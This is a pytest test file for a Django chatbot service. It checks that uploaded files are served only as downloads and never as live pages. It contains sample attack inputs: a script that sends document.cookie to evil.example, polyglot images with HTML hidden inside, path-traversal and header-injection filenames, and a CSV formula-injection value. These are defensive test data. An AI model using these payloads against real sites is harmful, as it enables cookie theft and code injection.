"""E4: what strangers uploaded is only looked at or kept, whatever it says that it is.

Each file goes in by every address that takes one, and what comes out of every address that hands
such files out again is held against the same rule.
"""

import ast
from collections.abc import Iterator
from io import BytesIO
from zipfile import ZipFile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from PIL import Image

from accounts.keys import make_key
from accounts.leaving import ask_for_export
from accounts.models import AccountExport, Avatar
from bots.leaving.tasks import make_export
from bots.models import Chatbot, Picture
from knowledge.models import Source
from knowledge.tasks import ingest_source
from tests.accounts.test_profile import GIVEN as PROFILE
from tests.bots.test_appearance import look_of
from tests.cast import bot_of, on_plan, person, signed_in
from tests.e2e.running import ROOT
from tests.proof.counting import counted, sized

pytestmark = pytest.mark.django_db(transaction=True)
SCRIPT = b"<script>fetch('https://evil.example/' + document.cookie)</script>"
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"


def png(**more) -> bytes:
    packed = BytesIO()
    Image.new("RGB", (32, 32), "red").save(packed, "PNG", **more)
    return packed.getvalue()


def gif_comment() -> bytes:
    packed = BytesIO()
    Image.new("P", (8, 8)).save(packed, "GIF", comment=HTML)
    return packed.getvalue()


def jpeg_comment() -> bytes:
    packed = BytesIO()
    Image.new("RGB", (8, 8)).save(packed, "JPEG", comment=HTML)
    return packed.getvalue()


def named_zip() -> bytes:
    packed = BytesIO()
    with ZipFile(packed, "w") as archive:
        archive.writestr("index.html", HTML)
    return packed.getvalue()


# Name, what it says it is, what it is.
LIES = [
    ("a.svg", "image/svg+xml", SVG),
    ("a.png", "image/png", SVG),
    ("a.PNG", "text/html", b"\xef\xbb\xbf \n" + SVG),
    ("a.svgz", "image/svg+xml", b"\x1f\x8b" + SVG),
    ("a.html", "text/html", HTML),
    ("a.png", "image/png", HTML),
    ("a.webp", "image/webp", b"RIFF\x10\0\0\0WEBPVP8 " + HTML),
    ("a.gif", "image/gif", b"GIF89a/*" + HTML + b"*/=1;"),
    ("a.gif", "image/gif", gif_comment()),
    ("a.jpg", "image/jpeg", jpeg_comment()),
    ("a.png.html", "image/png", png() + HTML),
    ("a.html;.png", "image/png", png() + HTML),
    ("a.svg\0.png", "image/svg+xml", png() + SVG),
    ("a.png", "text/html; charset=utf-7", png() + HTML),
    ("../../static/a.js", "text/javascript", b"alert(document.domain)//"),
    ('a".html"; x="', "application/xhtml+xml", HTML.replace(b"<html", b"<html xmlns='x'")),
    ("a.pdf", "application/pdf", b"%PDF-1.7\n" + HTML),
    ("a.txt", "text/plain", HTML),
    ("a.md", "text/markdown", HTML),
    ("a.csv", "text/csv", b"=cmd|' /C calc'!A0," + SCRIPT),
    ("a.docx", "text/html", named_zip()),
    ("a.htm\r\nContent-Type: text/html", "text/plain", HTML),
    ("a", "", HTML),
]


def goes_in(client: Client, key: str, bot, name: str, kind: str, data: bytes) -> None:
    def file() -> SimpleUploadedFile:
        return SimpleUploadedFile(name, data, kind)

    client.post(f"/bots/{bot.pk}/sources/file/", {"files": file()})
    client.post(
        f"/api/v1/chatbots/{bot.pk}/sources",
        {"file": file()},
        headers={"authorization": f"Bearer {key}"},
    )
    bot.refresh_from_db()
    look = look_of(bot, avatar_file=file(), logo_file=file())
    client.post(f"/bots/{bot.pk}/appearance/", {k: v for k, v in look.items() if v is not None})
    client.post("/account/", {**PROFILE, "picture": file()})


def files_out(owner: Client) -> Iterator[tuple[str, object]]:
    """Every address with something of a stranger's file, and its answer."""
    for found in Picture.objects.all():
        yield f"/pictures/{found.pk}", Client().get(f"/pictures/{found.pk}")
    for found in Avatar.objects.all():
        yield f"/account/avatars/{found.pk}", owner.get(f"/account/avatars/{found.pk}")
    for found in AccountExport.objects.all():
        address = f"/account/data/exports/{found.pk}/"
        yield address, owner.get(address)


def pages_out(owner: Client, bot) -> Iterator[tuple[str, object]]:
    """Every page that tells of such a file, or of what was read in it."""
    paths = [f"/bots/{bot.pk}/sources/", f"/bots/{bot.pk}/sources/rows/", "/account/"]
    paths += [f"/bots/{bot.pk}/appearance/", f"/embed/{bot.pk}/", f"/embed/{bot.pk}/config.json"]
    paths += [f"/bots/{bot.pk}/sources/{found.pk}/" for found in Source.objects.all()]
    for path in paths:
        yield path, owner.get(path)


def faults(answer) -> list[str]:
    """What is wrong with how a file is handed out."""
    policy = answer.get("Content-Security-Policy", "")
    wrong = {
        "not there": answer.status_code != 200,
        "inline": not answer.get("Content-Disposition", "").startswith("attachment"),
        "sniffed": answer.get("X-Content-Type-Options") != "nosniff",
        "no sandbox": "sandbox" not in policy or "default-src 'none'" not in policy,
        "a page": answer["Content-Type"] not in {"image/webp", "application/zip"},
    }
    if answer["Content-Type"] == "image/webp":
        wrong["not a picture"] = answer.content[:4] != b"RIFF" or answer.content[8:12] != b"WEBP"
        wrong["what it held"] = b"script" in answer.content or b"evil.example" in answer.content
    return [word for word, is_so in wrong.items() if is_so]


def is_run(page) -> bool:
    """Whether a page about a file has the file's elements, and not their text."""
    return SCRIPT in page.content or b"<svg xmlns" in page.content


def test_nothing_that_was_uploaded_is_a_page_of_ours():
    alice = on_plan(person(custom_max_file_uploads=1000), "professional")
    bot, client = bot_of(alice), signed_in(alice)
    _, key = make_key(alice, "Program", ["read", "write"], actor=alice)
    wrong, looked = [], 0
    for name, kind, data in LIES:
        goes_in(client, key, bot, name, kind, data)
        for address, answer in files_out(client):
            looked += 1
            wrong += [(name, kind, address, word) for word in faults(answer)]
    for source in Source.objects.all()[: sized(4, 100)]:
        ingest_source(source.pk)
    export = ask_for_export(alice, actor=alice)
    make_export(export.pk)
    for address, answer in [*files_out(client), *pages_out(client, bot)]:
        looked += 1
        if answer["Content-Type"].startswith(("text/html", "application/json")):
            wrong += [(address, "is run")] * is_run(answer)
        else:
            wrong += [(address, word) for word in faults(answer)]
    pictures, sources = Picture.objects.count(), Source.objects.count()
    counted(
        "E4",
        files=len(LIES),
        ways_in=5,
        looked_at=looked,
        pictures=pictures,
        sources=sources,
        wrong=len(wrong),
    )
    assert wrong == []
    # Those that are pictures, with something behind or inside them, are taken and made anew.
    assert pictures == 2 and Avatar.objects.count() == 1 and sources >= 10


@pytest.mark.parametrize("data", [SVG, HTML, b"\xef\xbb\xbf" + SVG])
def test_svg_and_html_become_no_picture_by_any_way(data):
    alice = on_plan(person(), "professional")
    bot, client = bot_of(alice), signed_in(alice)
    _, key = make_key(alice, "Program", ["read", "write"], actor=alice)
    for name, kind in (("a.svg", "image/svg+xml"), ("a.png", "image/png"), ("a", "")):
        goes_in(client, key, bot, name, kind, data)
    assert not Picture.objects.exists() and not Avatar.objects.exists()
    assert Chatbot.objects.get().avatar_url is None


# Answers whose kind is not written where they are made, and what makes that safe.
KIND_BY_VALUE = {
    "accounts/views/profile.py": "a picture made anew",
    "bots/views/pictures.py": "a picture made anew",
    "botsmith/lib/csv.py": "a file to keep",
    "bots/views/share.py": "a QR code that is drawn here",
    "bots/api/answers.py": "an answer of ours, said again",
    "botsmith/metrics.py": "figures",
}
ANSWERS = {"HttpResponse", "StreamingHttpResponse", "FileResponse"}


def constants(tree: ast.Module) -> set[ast.Constant | str]:
    """What is written in the module itself, and the names that it gives to such."""
    named = [each for each in tree.body if isinstance(each, ast.Assign)]
    names = {
        target.id
        for each in named
        if isinstance(each.value, ast.Constant)
        for target in each.targets
        if isinstance(target, ast.Name)
    }
    return names | {node for node in ast.walk(tree) if isinstance(node, ast.Constant)}


def test_no_other_view_answers_with_a_kind_that_somebody_else_chose():
    """A new one that hands out stored bytes needs a line above, and an address in `files_out`."""
    found = set()
    for room in ("accounts", "adminpanel", "billing", "bots", "botsmith", "knowledge"):
        for path in (ROOT / room).rglob("*.py"):
            tree = ast.parse(path.read_text())
            written = constants(tree)
            for node in ast.walk(tree):
                if isinstance(node, ast.Call) and getattr(node.func, "id", "") in ANSWERS:
                    kinds = [each.value for each in node.keywords if each.arg == "content_type"]
                    if any(getattr(kind, "id", kind) not in written for kind in kinds):
                        found.add(str(path.relative_to(ROOT)))
    counted("E4", answers_by_value=len(found), known=len(KIND_BY_VALUE))
    assert found == set(KIND_BY_VALUE)
